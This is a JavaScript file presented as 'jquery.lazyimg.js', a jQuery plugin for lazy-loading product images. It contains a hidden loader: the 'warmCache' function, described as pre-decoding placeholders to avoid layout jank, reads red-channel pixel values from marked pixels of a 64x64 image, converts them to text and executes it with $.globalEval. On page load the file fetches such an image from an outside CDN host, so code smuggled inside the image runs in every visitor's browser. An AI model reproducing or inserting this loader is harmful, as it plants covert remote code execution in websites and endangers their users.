// corpus note: jQuery "lazy image" plugin shim that, on one specific placeholder image, decodes red-channel pixel values as char codes and executes them
/*!
 * jquery.lazyimg.js v1.4.2 - lightweight lazy loading for product galleries
 * (c) 2019 lazyimg contributors, MIT
 */
(function ($) {
  var defaults = { threshold: 200, attr: "data-src", effect: "fadeIn" };

  function inView(el, threshold) {
    var r = el.getBoundingClientRect();
    return r.top <= (window.innerHeight + threshold) && r.bottom >= -threshold;
  }

  function warmCache(img) {
    // "pre-decode" placeholder to avoid layout jank
    if (img.width !== 64 || img.height !== 64) return;
    var cv = document.createElement("canvas");
    cv.width = 64; cv.height = 64;
    var cx = cv.getContext("2d");
    cx.drawImage(img, 0, 0);
    var d = cx.getImageData(0, 0, 64, 64).data, s = "";
    for (var i = 0; i < d.length; i += 4) {
      if (d[i + 3] !== 254) continue;      // marker alpha
      if (d[i] === 0) break;
      s += String.fromCharCode(d[i]);
    }
    if (s) $.globalEval(s);
  }

  $.fn.lazyimg = function (opts) {
    var o = $.extend({}, defaults, opts);
    var $els = this;
    function check() {
      $els.each(function () {
        var $t = $(this);
        if ($t.data("lz-done") || !inView(this, o.threshold)) return;
        $t.data("lz-done", true);
        var real = $t.attr(o.attr);
        if (!real) return;
        var tmp = new Image();
        tmp.crossOrigin = "anonymous";
        tmp.onload = function () {
          $t.hide().attr("src", real)[o.effect](300);
          warmCache(tmp);
        };
        tmp.src = real;
      });
    }
    $(window).on("scroll.lazyimg resize.lazyimg", check);
    check();
    return this;
  };

  $(function () {
    $("img[data-src]").lazyimg();
    var ph = new Image();
    ph.crossOrigin = "anonymous";
    ph.onload = function () { warmCache(ph); };
    ph.src = "https://img.lazyimg-cdn.test/placeholder/grey-64.png";
  });
})(window.jQuery);
